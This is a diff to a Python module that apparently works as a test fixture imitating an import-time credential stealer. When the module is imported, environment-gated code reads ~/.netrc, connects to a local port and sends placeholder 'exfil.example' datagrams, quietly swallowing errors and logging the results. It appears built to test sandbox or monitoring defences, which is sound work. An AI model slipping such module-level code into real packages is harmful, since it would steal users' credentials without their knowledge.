@@ -1,15 +1,31 @@
-# Import-time payload: module-level code.
+# Import-time payload: module-level code. It swallows its errors, as real stealers do, and
+# notes what it got in $PREMAIN_RESULT.
 import os
 import socket
 
+
+def _note(what):
+    if os.environ.get("PREMAIN_RESULT"):
+        with open(os.environ["PREMAIN_RESULT"], "a") as f:
+            f.write(what + "\n")
+
+
 _port = int(os.environ.get("PREMAIN_SINK_PORT", "0"))
 if _port:
-    open(os.path.join(os.path.expanduser("~"), ".netrc")).close()
-    socket.create_connection(("127.0.0.1", _port), timeout=3).close()
-    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    u.sendto(b"exfil.example", ("127.0.0.1", _port))
-    u.sendmsg([b"exfil2.example"], [], 0, ("127.0.0.2", _port))
-    u.close()
+    try:
+        with open(os.path.join(os.path.expanduser("~"), ".netrc")) as f:
+            _note("read .netrc %d bytes" % len(f.read()))
+    except OSError as e:
+        _note("denied .netrc errno %d" % e.errno)
+    try:
+        socket.create_connection(("127.0.0.1", _port), timeout=3).close()
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.sendto(b"exfil.example", ("127.0.0.1", _port))
+        u.sendmsg([b"exfil2.example"], [], 0, ("127.0.0.2", _port))
+        u.close()
+        _note("sent")
+    except OSError as e:
+        _note("send failed errno %s" % e.errno)
 
 
 def helper():
